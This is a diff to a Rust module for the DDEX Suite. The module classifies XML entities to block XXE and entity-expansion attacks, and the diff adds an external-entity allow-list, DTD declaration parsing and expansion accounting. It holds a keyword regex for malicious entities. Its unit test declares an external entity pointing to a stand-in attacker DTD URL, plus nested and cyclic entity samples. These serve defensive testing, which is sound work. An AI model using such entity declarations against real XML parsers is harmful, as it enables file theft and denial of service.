@@ -1,8 +1,9 @@
-//! Entity Classification System for DDEX Builder
+//! Entity Classification System for the DDEX Suite
 //!
 //! This module provides a comprehensive multi-layer classification system to distinguish
 //! between legitimate DDEX entities and malicious attempts. It implements defense against
-//! XXE attacks, entity expansion attacks, and other XML-based security threats.
+//! XXE attacks, entity expansion attacks, and other XML-based security threats, and is
+//! shared by the builder's input validation and the parser's document checks.
 //!
 //! ## Features
 //!
@@ -12,13 +13,14 @@
 //! - Pattern matching for known attack vectors
 //! - Metrics collection for security monitoring
 //! - Performance-optimized caching system
+//! - DTD entity declaration parsing and memoized expansion accounting
 
-use crate::error::BuildError;
 use indexmap::{IndexMap, IndexSet};
-use once_cell::sync::Lazy;
 use regex::Regex;
 use serde::{Deserialize, Serialize};
 use std::collections::{HashMap, VecDeque};
+use std::fmt;
+use std::sync::LazyLock;
 use std::time::Instant;
 use tracing::{debug, warn};
 
@@ -35,7 +37,7 @@ const MAX_EXPANDED_SIZE: usize = 1_000_000; // 1MB
 const MAX_ENTITY_CHAIN_LENGTH: usize = 50;
 
 /// Standard XML built-in entity patterns
-static BUILTIN_ENTITIES: Lazy<IndexSet<&str>> = Lazy::new(|| {
+static BUILTIN_ENTITIES: LazyLock<IndexSet<&str>> = LazyLock::new(|| {
     let mut set = IndexSet::new();
     set.insert("lt");
     set.insert("gt");
@@ -46,22 +48,22 @@ static BUILTIN_ENTITIES: Lazy<IndexSet<&str>> = Lazy::new(|| {
 });
 
 /// Known malicious entity patterns
-static MALICIOUS_PATTERNS: Lazy<Regex> = Lazy::new(|| {
+static MALICIOUS_PATTERNS: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"(?i)(lol|lol[2-9]|billion|bomb|evil|attack|exploit|payload|xxe|external|system|public)").unwrap()
 });
 
 /// External reference patterns
-static EXTERNAL_PATTERNS: Lazy<Regex> = Lazy::new(|| {
+static EXTERNAL_PATTERNS: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r#"(?i)(SYSTEM|PUBLIC)\s+['"][^'"]*['"]"#).unwrap()
 });
 
 /// Network URL patterns
-static NETWORK_URL_PATTERNS: Lazy<Regex> = Lazy::new(|| {
+static NETWORK_URL_PATTERNS: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"(?i)(https?://|ftp://|file://|ftps://|smb://|\\\\)").unwrap()
 });
 
 /// Recursive entity reference patterns
-static RECURSIVE_PATTERNS: Lazy<Regex> = Lazy::new(|| {
+static RECURSIVE_PATTERNS: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"&[a-zA-Z_][a-zA-Z0-9._-]*;").unwrap()
 });
 
@@ -169,6 +171,9 @@ pub struct ClassifierConfig {
     pub max_expanded_size: usize,
     /// Whether to allow external entities
     pub allow_external_entities: bool,
+    /// When external entities are allowed, the prefixes their system
+    /// identifier must start with; `None` allows any
+    pub external_allow_list: Option<Vec<String>>,
     /// Whether to allow parameter entities
     pub allow_parameter_entities: bool,
     /// Custom safe entities (in addition to DDEX whitelist)
@@ -184,6 +189,7 @@ impl Default for ClassifierConfig {
             max_expansion_ratio: MAX_EXPANSION_RATIO,
             max_expanded_size: MAX_EXPANDED_SIZE,
             allow_external_entities: false,
+            external_allow_list: None,
             allow_parameter_entities: false,
             custom_safe_entities: IndexSet::new(),
             collect_metrics: true,
@@ -217,6 +223,37 @@ impl EntityClassifier {
         }
     }
     
+    /// The configuration in use
+    pub fn config(&self) -> &ClassifierConfig {
+        &self.config
+    }
+    
+    /// Whether the external entity `entity` may be declared
+    pub fn allows_external(&self, entity: &Entity) -> bool {
+        self.config.allow_external_entities
+            && match &self.config.external_allow_list {
+                None => true,
+                Some(prefixes) => entity
+                    .system_id
+                    .as_deref()
+                    .is_some_and(|id| prefixes.iter().any(|prefix| id.starts_with(prefix.as_str()))),
+            }
+    }
+    
+    /// Expansion accounting for the internal entities in `entities`, nesting
+    /// at most [`ClassifierConfig::max_depth`] levels deep
+    pub fn expansion_table(&self, entities: &[Entity]) -> EntityTable {
+        EntityTable {
+            values: entities
+                .iter()
+                .filter(|entity| entity.system_id.is_none() && entity.public_id.is_none())
+                .map(|entity| (entity.name.clone(), entity.value.clone()))
+                .collect(),
+            costs: IndexMap::new(),
+            max_depth: self.config.max_depth,
+        }
+    }
+    
     /// Classify a single entity by name and value
     pub fn classify_entity(&mut self, name: &str, value: &str) -> EntityClass {
         let cache_key = format!("{}:{}", name, value);
@@ -348,6 +385,7 @@ impl EntityClassifier {
         let mut total_output_size = 0;
         let mut max_depth = 0;
         let mut external_refs = 0;
+        let mut disallowed_external = 0;
         let mut network_urls = 0;
         
         // Analyze each entity
@@ -361,6 +399,9 @@ impl EntityClassifier {
             
             if entity.system_id.is_some() || entity.public_id.is_some() {
                 external_refs += 1;
+                if !self.allows_external(entity) {
+                    disallowed_external += 1;
+                }
             }
             
             if NETWORK_URL_PATTERNS.is_match(&entity.value) {
@@ -435,10 +476,10 @@ impl EntityClassifier {
             is_safe = false;
         }
         
-        if external_refs > 0 && !self.config.allow_external_entities {
+        if disallowed_external > 0 {
             errors.push(format!(
                 "External entities not allowed ({} found)", 
-                external_refs
+                disallowed_external
             ));
             is_safe = false;
         }
@@ -589,6 +630,148 @@ impl Default for EntityClassifier {
     }
 }
 
+/// Internal entities of one document, with the memoized cost of expanding
+/// their references
+#[derive(Debug, Clone, Default)]
+pub struct EntityTable {
+    values: IndexMap<String, String>,
+    /// Memoized (expansions, nesting depth) per entity
+    costs: IndexMap<String, (u64, usize)>,
+    max_depth: usize,
+}
+
+/// An entity whose references nest deeper than allowed
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct DepthExceeded {
+    /// Name of the entity
+    pub entity: String,
+    /// The nesting limit
+    pub max_depth: usize,
+}
+
+impl fmt::Display for DepthExceeded {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "Entity '{}' nests deeper than {} levels", self.entity, self.max_depth)
+    }
+}
+
+impl std::error::Error for DepthExceeded {}
+
+impl EntityTable {
+    /// Whether no internal entity is declared
+    pub fn is_empty(&self) -> bool {
+        self.values.is_empty()
+    }
+    
+    /// Number of expansions caused by the entity references in `text`
+    pub fn expansions_in(&mut self, text: &str) -> Result<u64, DepthExceeded> {
+        if self.values.is_empty() {
+            return Ok(0);
+        }
+        let mut total = 0u64;
+        for name in references(text) {
+            if self.values.contains_key(name) {
+                total = total.saturating_add(self.cost(name, 1)?.0);
+            }
+        }
+        Ok(total)
+    }
+    
+    /// Expansions and nesting depth of one reference to `name`; `depth` is
+    /// how deep the reference itself sits, which also stops reference cycles
+    fn cost(&mut self, name: &str, depth: usize) -> Result<(u64, usize), DepthExceeded> {
+        let max_depth = self.max_depth;
+        let exceeded = || DepthExceeded { entity: name.to_string(), max_depth };
+        if depth > self.max_depth {
+            return Err(exceeded());
+        }
+        if let Some(cost) = self.costs.get(name) {
+            return Ok(*cost);
+        }
+        
+        let value = self.values.get(name).cloned().unwrap_or_default();
+        let (mut expansions, mut nesting) = (1u64, 1usize);
+        for inner in references(&value) {
+            if self.values.contains_key(inner) {
+                let (inner_expansions, inner_nesting) = self.cost(inner, depth + 1)?;
+                expansions = expansions.saturating_add(inner_expansions);
+                nesting = nesting.max(inner_nesting + 1);
+            }
+        }
+        if nesting > self.max_depth {
+            return Err(exceeded());
+        }
+        
+        self.costs.insert(name.to_string(), (expansions, nesting));
+        Ok((expansions, nesting))
+    }
+}
+
+/// Entities declared with `<!ENTITY ...>` in a DOCTYPE's internal subset
+pub fn parse_entity_declarations(doctype: &str) -> Vec<Entity> {
+    let mut entities = Vec::new();
+    let mut rest = doctype;
+    
+    while let Some(start) = rest.find("<!ENTITY") {
+        rest = &rest[start + "<!ENTITY".len()..];
+        let declaration = &rest[..rest.find('>').unwrap_or(rest.len())];
+        let mut tokens = Tokens(declaration);
+        
+        let mut name = tokens.next().unwrap_or_default();
+        let is_parameter = name == "%";
+        if is_parameter {
+            name = tokens.next().unwrap_or_default();
+        }
+        let entity = match tokens.next() {
+            Some(kind @ ("SYSTEM" | "PUBLIC")) => {
+                let public_id = if kind == "PUBLIC" { tokens.next() } else { None };
+                let system_id = tokens.next().unwrap_or_default();
+                Entity {
+                    public_id: public_id.map(str::to_string),
+                    is_parameter,
+                    ..create_external_entity(name, system_id)
+                }
+            }
+            Some(value) => Entity { is_parameter, ..create_entity(name, value) },
+            None => continue,
+        };
+        entities.push(entity);
+    }
+    
+    entities
+}
+
+/// Names of the `&name;` references in `text`
+fn references(text: &str) -> impl Iterator<Item = &str> {
+    text.split('&').skip(1).filter_map(|part| {
+        let end = part.find(';')?;
+        let name = &part[..end];
+        (!name.is_empty() && !name.starts_with('#')).then_some(name)
+    })
+}
+
+/// Whitespace-separated tokens of an entity declaration, with quoted
+/// strings returned without their quotes
+struct Tokens<'a>(&'a str);
+
+impl<'a> Iterator for Tokens<'a> {
+    type Item = &'a str;
+    
+    fn next(&mut self) -> Option<&'a str> {
+        let rest = self.0.trim_start();
+        let quote = rest.chars().next()?;
+        let (token, remainder) = if quote == '"' || quote == '\'' {
+            let end = rest[1..].find(quote).map(|i| i + 1).unwrap_or(rest.len());
+            (&rest[1..end], &rest[(end + 1).min(rest.len())..])
+        } else {
+            let end = rest.find(char::is_whitespace).unwrap_or(rest.len());
+            (&rest[..end], &rest[end..])
+        };
+        self.0 = remainder;
+        Some(token)
+    }
+}
+
 /// Helper function to create an Entity from name and value
 pub fn create_entity(name: &str, value: &str) -> Entity {
     Entity {
@@ -736,4 +919,32 @@ mod tests {
         // Should trigger expansion ratio warning
         assert!(result.metrics.expansion_ratio > 50.0);
     }
+    
+    #[test]
+    fn test_declared_entities_and_expansions() {
+        let doctype = r#"DOCTYPE r [
+            <!ENTITY a "x">
+            <!ENTITY b "&a;&a;&a;">
+            <!ENTITY % p 'param'>
+            <!ENTITY ext PUBLIC "-//EVIL//" "http://attacker.com/evil.dtd">
+        ]"#;
+        let entities = parse_entity_declarations(doctype);
+        let names: Vec<_> = entities.iter().map(|e| (e.name.as_str(), e.is_parameter)).collect();
+        assert_eq!(names, [("a", false), ("b", false), ("p", true), ("ext", false)]);
+        assert_eq!(entities[3].public_id.as_deref(), Some("-//EVIL//"));
+        
+        let mut config = ClassifierConfig::default();
+        config.allow_external_entities = true;
+        config.external_allow_list = Some(vec!["file:///srv/dtd/".to_string()]);
+        let classifier = EntityClassifier::with_config(config);
+        assert!(!classifier.allows_external(&entities[3]));
+        assert!(classifier.allows_external(&create_external_entity("local", "file:///srv/dtd/ern.dtd")));
+        
+        let mut table = classifier.expansion_table(&entities);
+        assert_eq!(table.expansions_in("&b; &amp; &#38; &b;"), Ok(8));
+        
+        let cyclic = parse_entity_declarations(r#"<!ENTITY a "&b;"><!ENTITY b "&a;">"#);
+        let error = classifier.expansion_table(&cyclic).expansions_in("&a;").unwrap_err();
+        assert_eq!(error.to_string(), "Entity 'b' nests deeper than 3 levels");
+    }
 }
\ No newline at end of file